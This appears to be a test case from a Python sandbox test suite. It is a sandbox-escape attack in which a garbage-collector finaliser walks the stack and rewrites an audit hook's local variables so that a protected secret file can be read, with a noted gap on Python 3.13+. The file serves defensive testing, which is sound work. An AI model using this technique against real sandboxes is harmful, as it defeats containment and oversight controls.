# Attack: a finaliser that the garbage collector runs as the hook begins, or while it decides, rewrites the hook's running frame
# Policy: contain, files
# Expect: stopped
# Gap: python 3.13+: the contain purpose stops collections while the hook decides, but not one that runs at the hook's first line, before it can; from 3.13 (PEP 667) the finaliser rewrites the hook's variables there. Only the C hook, which has no frame, is out of its reach.
import gc

done = []


class Trigger:
    def __del__(self):
        frame = sys._getframe(1)
        while frame is not None:
            names = frame.f_locals
            # The hook's own names, as its source gives them: what decides, and the allowed folders.
            if "decide" in names or "folders" in names or "covered" in names:
                if "covered" in names:
                    names["covered"] = frozenset()
                if "decide" in names:
                    names["decide"] = lambda event, args: None
                if "folders" in names:
                    names["folders"] = ((b"/", b"/"),)
                done.append(True)
                return
            frame = frame.f_back
        if not done:
            arm()  # not inside the hook: wait for the next collection


def arm():
    trigger = Trigger()
    trigger.self = trigger


def attack():
    gc.set_threshold(1)
    try:
        for _ in range(200):
            arm()
            try:
                return read(SECRET)
            except PermissionError:
                continue
        return read(SECRET)
    finally:
        gc.set_threshold(700)


attempt(attack)
